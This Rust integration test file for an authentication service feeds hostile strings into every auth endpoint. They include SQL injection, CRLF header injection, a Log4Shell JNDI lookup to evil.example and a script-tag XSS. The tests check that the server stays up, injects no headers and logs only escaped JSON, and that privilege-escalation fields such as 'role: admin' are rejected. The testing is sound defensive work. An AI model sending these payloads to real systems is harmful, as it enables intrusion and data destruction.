//! What strings may hold: nothing of it breaks anything, and nothing of it is raw in the log.

use serde_json::{Value, json};

use crate::harness::{Folder, Session, http::Request, session};

/// Each is a text that somewhere would be more than a text.
const NASTY: [&str; 9] = [
    "'; DROP TABLE accounts; --",
    "\" OR \"\"=\"",
    "a\r\nX-Injected: yes",
    "\u{1b}[31mred\u{1b}[0m",
    "nul\0nul",
    "\u{202e}txt.exe",
    "${jndi:ldap://evil.example/a}",
    "{{link}} %s %n <script>alert(1)</script>",
    "\u{fdfa}\u{fdfa}\u{fdfa}",
];

/// Every body with a text in it; `?` is the text.
fn bodies() -> Vec<(&'static str, &'static str, Value)> {
    let password = session::PASSWORD;
    vec![
        (
            "POST",
            "/auth/register",
            json!({"email": "?", "password": password}),
        ),
        (
            "POST",
            "/auth/register",
            json!({"username": "?", "password": password}),
        ),
        (
            "POST",
            "/auth/register",
            json!({"username": "eve", "password": "?"}),
        ),
        (
            "POST",
            "/auth/register",
            json!({"username": "eve", "password": password, "name": "?"}),
        ),
        (
            "POST",
            "/auth/login",
            json!({"email": "?", "password": password}),
        ),
        (
            "POST",
            "/auth/login",
            json!({"username": "?", "password": "?"}),
        ),
        ("POST", "/auth/refresh", json!({"refresh_token": "?"})),
        ("POST", "/auth/logout", json!({"refresh_token": "?"})),
        ("POST", "/auth/verify", json!({"token": "?"})),
        ("POST", "/auth/password/forgot", json!({"email": "?"})),
        (
            "POST",
            "/auth/password/reset",
            json!({"token": "?", "new_password": password}),
        ),
        ("POST", "/auth/login/mail", json!({"email": "?"})),
        ("POST", "/auth/login/mail/confirm", json!({"token": "?"})),
        ("POST", "/auth/email/confirm", json!({"token": "?"})),
        (
            "POST",
            "/auth/email",
            json!({"email": "?", "current_password": "?"}),
        ),
        ("PATCH", "/auth/me", json!({"name": "?"})),
        ("DELETE", "/auth/me", json!({"current_password": "?"})),
        (
            "POST",
            "/auth/password",
            json!({"current_password": "?", "new_password": "?"}),
        ),
    ]
}

fn with(body: &Value, text: &str) -> Value {
    let mut body = body.clone();
    for value in body.as_object_mut().unwrap().values_mut() {
        if *value == "?" {
            *value = json!(text);
        }
    }
    body
}

/// With a token where one is needed; a logout would end its session.
fn signed_in(request: Request, path: &str, who: &Session) -> Request {
    match path {
        "/auth/email" | "/auth/me" | "/auth/password" => request.bearer(&who.access_token),
        _ => request,
    }
}

#[test]
fn no_text_breaks_anything_and_none_is_raw_in_the_log() {
    let folder = Folder::new();
    let server = folder.server().env("BULLA__LOG__ACCESS", "all");
    let server = server.env("BULLA__LOGIN__MAIL", "link").start();
    let ada = Session::register(server.public, "ada@example.com");
    for (method, path, body) in bodies() {
        for text in NASTY {
            let call = signed_in(server.public.request(method, path), path, &ada);
            let answer = call.json(&with(&body, text)).send();
            assert!(answer.status < 500, "{path} {text:?}: {}", answer.text());
            assert!(answer.header("x-injected").is_none(), "{path}");
        }
    }
    // Nothing was dropped, and nobody is called what nobody can be called.
    ada.contact(server.public).expect(200);
    session::login(server.public, "ada@example.com", session::PASSWORD).expect(200);
    let log = server.stop();
    for line in log.lines() {
        assert!(serde_json::from_str::<Value>(line).is_ok(), "{line:?}");
    }
    let raw = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
    assert!(!log.contains(raw), "{:?}", log.chars().find(|c| raw(*c)));
}

#[test]
fn no_body_makes_anybody_more_than_they_are() {
    let folder = Folder::new();
    let server = folder.server().env("BULLA__LOGIN__MAIL", "link").start();
    let ada = Session::register(server.public, "ada@example.com");
    for (method, path, body) in bodies() {
        for (field, value) in [
            ("role", json!("admin")),
            ("roles", json!(["admin"])),
            ("plan", json!("enterprise")),
            ("claims", json!({"admin": true})),
            ("is_admin", json!(true)),
            ("id", json!("usr_other")),
            ("epoch", json!(0)),
        ] {
            let mut body = with(&body, "text");
            body[field] = value;
            let call = signed_in(server.public.request(method, path), path, &ada);
            let answer = call.json(&body).send();
            answer.expect_problem(422, "field_unknown");
        }
    }
    let me = server.public.get("/auth/me").bearer(&ada.access_token);
    let me = me.send().expect(200);
    assert_eq!((&me["roles"], &me["plan"]), (&json!([]), &json!("free")));
}
